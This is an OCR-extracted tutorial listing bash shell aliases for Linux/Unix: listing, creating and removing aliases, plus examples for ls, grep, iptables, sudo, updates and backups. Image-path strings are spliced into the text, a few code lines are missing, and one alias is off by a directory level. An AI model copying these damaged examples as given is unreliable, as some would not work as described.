30 Handy Bash Shell Aliases For Linux / Unix / MacOS

An bash shell alias is nothing but the shortcut to commands. The alias command allows the user to launch any command or group of commands (including options and filenames) by entering a single word. Use alias command to display a list of all defined aliases. You can add user-defined aliases to ~/.bashrc file. You can cut down typing time with these aliases, work smartly, and increase productivity at the command prompt.

This post shows how to create and use aliases including 30 practical examples of bash shell aliases.
30 UsefulBash Shell Aliase For Linux/Unix Users

More about bash shell aliases

The general syntax for the alias command for the bash shell is as follows:

How to list bash aliases

Type the following alias command:
Sample outputs:

alias ..='cd ..'
alias amazonbackup='s3backup'
alias apt-get='sudo apt-get'

By default alias command shows a list of aliases that are defined for the current user.

How to define or create a bash shell alias

To create the alias use the following syntax:

alias name=value
alias name='command'
alias name='command arg1 arg2'
alias name='/path/to/script'
alias name='/path/to/script.pl arg1'

In this example, create the alias c for the commonly used clear command, which clears the screen, by typing the following command and then pressing the ENTER key:

alias c='clear'

Then, to clear the screen, instead of typing clear, you would only have to type the letter ‘c’ and press the [ENTER] key:


How to disable a bash alias temporarily

An alias can be disabled temporarily usingthe following syntax:

## path/to/full/command
## call alias with a backslash ##
## use /bin/ls command and avoid ls alias ##
command ls

How to delete/remove a bash alias

You need to use the command called unalias to remove aliases. Its syntax is as follows:

unalias aliasname
unalias foo

In this example, remove the alias c which was created in an earlier example:

unalias cYou also need to delete the alias from the ~/.bashrc file using a text editor (see next section).

How to make bash shell aliases permanent

The alias c remains in effect only during the current login session. Once you logs out or reboot the system the alias c will be gone. To avoid this problem, add alias to your ~/.bashrc file, enter:

vi ~/.bashrc

The alias c for the current user can be made permanent by entering the following line:

alias c='clear'

Save and close the file. System-wide aliases (i.e. aliases for all users) can be put in the /etc/bashrc file. Please note that the alias command is built into a various shells including ksh, tcsh/csh, ash, bash and others.

A note about privileged access

You can add code as follows in ~/.bashrc:

# if user is not root, pass all commands via sudo #
if [ $UID -ne 0 ]; then
    alias reboot='sudo reboot'
    alias update='sudo apt-get upgrade'

A note about os specific aliases

You can add code as follows in ~/.bashrc using the case statement:

### Get os name via uname ###
### add alias as per os using $_myos ###
case $_myos in
   Linux) alias foo='/path/to/linux/bin/foo';;
   FreeBSD|OpenBSD) alias foo='/path/to/bsd/bin/foo' ;;
   SunOS) alias foo='/path/to/sunos/bin/foo' ;;
   *) ;;

30 bash shell aliases examples

You can define various types aliases as follows to save time and increase productivity.

#1: Control ls command output

The ls command lists directory contents and you can colorize the output:

## Colorize the ls output ##
alias ls='ls --color=auto'
## Use a long listing format ##
alias ll='ls -la'
## Show hidden files ##
alias l.='ls -d .* --color=auto'

#2: Control cd command behavior

## get rid of command not found ##alias cd..='cd ..'
## a quick way to get out of current directory ##
alias..='cd ..'
alias ...='cd ../../../'
alias ....='cd ../../../../'
alias .....='cd ../../../../'
alias .4='cd ../../../../'
alias .5='cd ../../../../..'

#3: Control grep command output

grep command is a command-line utility for searching plain-text files for lines matching a regular expression:

## Colorize the grep command output for ease of use (good for log files)##
alias grep='grep --color=auto'
alias egrep='egrep --color=auto'
alias fgrep='fgrep --color=auto'

#4: Start calculator with math support

alias bc='bc -l'

#4: Generate sha1 digestalias sha1='openssl sha1'

#5: Create parent directories on demand

mkdir command is used to create a directory:

alias mkdir='mkdir -pv'

#6: Colorize diff output

You can compare files line by line using diff and use a tool called colordiff to colorize diff output:

# install  colordiff package :)
alias diff='colordiff'

#7: Make mount command output pretty and human readable format

alias mount='mount |column -t'

#8: Command short cuts to save time

# handy short cuts #
alias h='history'
alias j='jobs -l'

#9: Create a new set of commands

alias path='echo -e ${PATH//:/\\n}'
alias now='date +"%T"'
alias nowtime=now
alias nowdate='date +"%d-%m-%Y"'

#10: Set vim as default

alias vi=vimalias svi='sudo vi'
alias vis='vim "+set si"'
alias edit='vim'

#11: Control output of networking tool called ping

# Stop after sending count ECHO_REQUEST packets #
alias ping='ping -c 5'
# Do not wait interval 1 second, go fast #
alias fastping='ping -c 100 -s.2'

#12: Show open ports

Use netstat command to quickly list all TCP/UDP port on the server:

alias ports='netstat -tulanp'

#13: Wakeup sleeping servers

Wake-on-LAN (WOL) is an Ethernet networking standard that allows a server to be turned on by a network message. You can quickly wakeup nas devices and serverusing the following aliases:

## replace mac with your actual server mac address #
alias wakeupnas01='/usr/bin/wakeonlan 00:11:32:11:15:FC'
alias wakeupnas02='/usr/bin/wakeonlan 00:11:32:11:15:FD'
alias wakeupnas03='/usr/bin/wakeonlan 00:11:32:11:15:FE'

#14: Control firewall (iptables) outputNetfilter is a host-based firewall for Linux operating systems. It is included as part of the Linux distribution and it is activated by default. This post list most common iptables solutions required by a new Linux user to secure his or her Linux operating system from intruders.

## shortcut  for iptables and pass it via sudo#
alias ipt='sudo /sbin/iptables'
# display all rules #
alias iptlist='sudo /sbin/iptables -L -n -v --line-numbers'
alias iptlistin='sudo /sbin/iptables -L INPUT -n -v --line-numbers'
alias iptlistout='sudo /sbin/iptables -L OUTPUT -n -v --line-numbers'
alias iptlistfw='sudo /sbin/iptables -L FORWARD -n -v --line-numbers'
alias firewall=iptlist#15: Debug web server / cdn problems with curl

# get web server headers #
alias header='curl -I'
# find out if remote server supports gzip / mod_deflate or not #
alias headerc='curl -I --compress'

#16: Add safety nets

# do not delete / or prompt if deletingmore than 3 files at a time #
alias rm='rm -I --preserve-root'
# confirmation #
alias mv='mv -i'
alias cp='cp -i'
alias ln='ln -i'
# Parenting changing perms on / #
alias chown='chown --preserve-root'
alias chmod='chmod --preserve-root'
alias chgrp='chgrp --preserve-root'

#17: Update Debian Linux server

apt-get command is used for installing packages over the internet (ftp or http). You can also upgrade all packages in a single operations:

# distro specific  - Debian / Ubuntu and friends #
# install with apt-get
alias apt-get="sudo apt-get"
aliasupdatey="sudo apt-get --yes"
# update on one command
alias update='sudo apt-get update && sudo apt-get upgrade'

#18: Update RHEL / CentOS / Fedora Linux server

yum command is a package management tool for RHEL / CentOS / Fedora Linux and friends:

## distrp specifc RHEL/CentOS ##
alias update='yum update'
alias updatey='yum -y update'

#19: Tune sudo and su

# become root #
alias root='sudo -i'
alias su='sudo -i'

#20: Pass halt/reboot via sudo

shutdown command bring the Linux / Unix system down:

# reboot / halt / poweroff
alias reboot='sudo /sbin/reboot'
alias poweroff='sudo /sbin/poweroff'
alias halt='sudo /sbin/halt'
alias shutdown='sudo /sbin/shutdown'

#21: Control web servers# also pass it via sudo so whoever is admin can reload it without calling you #
alias nginxreload='sudo /usr/local/nginx/sbin/nginx -s reload'
alias nginxtest='sudo /usr/local/nginx/sbin/nginx -t'
alias lightyload='sudo /etc/init.d/lighttpd reload'
alias lightytest='sudo /usr/sbin/lighttpd -f /etc/lighttpd/lighttpd.conf -t'
alias httpdreload='sudo /usr/sbin/apachectl -k graceful'
alias httpdtest='sudo /usr/sbin/apachectl -t && /usr/sbin/apachectl -t -D DUMP_VHOSTS'

#22: Alias into our backup stuff

# if cron fails or if you want backup on demand just run these commands #
# again pass it via sudo so whoever is in admin group can start the job #
# Backup scripts #
alias backup='sudo/home/scripts/admin/scripts/backup/wrapper.backup.sh --type local --taget /raid1/backups'
alias nasbackup='sudo /home/scripts/admin/scripts/backup/wrapper.backup.sh --type nas --target nas01'
alias s3backup='sudo /home/scripts/admin/scripts/backup/wrapper.backup.sh --type nas --target nas01 --auth /home/scripts/admin/.authdata/amazon.keys'
alias rsnapshothourly='sudo /home/scripts/admin/scripts/backup/wrapper.rsnapshot.sh --type remote --target nas03 --auth /home/scripts/admin/.authdata/ssh.keys --config /home/scripts/admin/scripts/backup/config/adsl.conf'
alias rsnapshotdaily='sudo  /home/scripts/admin/scripts/backup/wrapper.rsnapshot.sh --type remote --target nas03--auth /home/scripts/admin/.authdata/ssh.keys--config /home/scripts/admin/scripts/backup/config/adsl.conf'
alias rsnapshotweekly='sudo /home/scripts/admin/scripts/backup/wrapper.rsnapshot.sh --type remote --target nas03 --auth /home/scripts/admin/.authdata/ssh.keys  --config /home/scripts/admin/scripts/backup/config/adsl.conf'
alias rsnapshotmonthly='sudo /home/scripts/admin/scripts/backup/wrapper.rsnapshot.sh --type remote --target nas03 --auth /home/scripts/admin/.authdata/ssh.keys  --config /home/scripts/admin/scripts/backup/config/adsl.conf'
alias amazonbackup=s3backup

#23: Desktop specific – play avi/mp3 files on demand

## play video files in a current directory ##
# cd ~/Download/movie-name
# playavi or vlc
alias playavi='mplayer *.avi'
alias vlc='vlc *.avi'
# play all music files from the current directory #
alias playwave='for i in *.wav; do mplayer "$i"; done'
alias playogg='for i in *.ogg; do mplayer "$i"; done'
alias playmp3='for i in *.mp3; do mplayer "$i"; done'
# play files from nas devices #
alias nplaywave='for i in /nas/multimedia/wave/*.wav; do mplayer "$i"; done'
alias nplayogg='for i in /nas/multimedia/ogg/*.ogg; do mplayer "$i"; done'
aliasnplaymp3='for i in /nas/multimedia/mp3/*.mp3; do mplayer "$i"; done'
# shuffle mp3/ogg etc by default #
alias music='mplayer --shuffle *'

#24: Set default interfaces for sys admin related commands

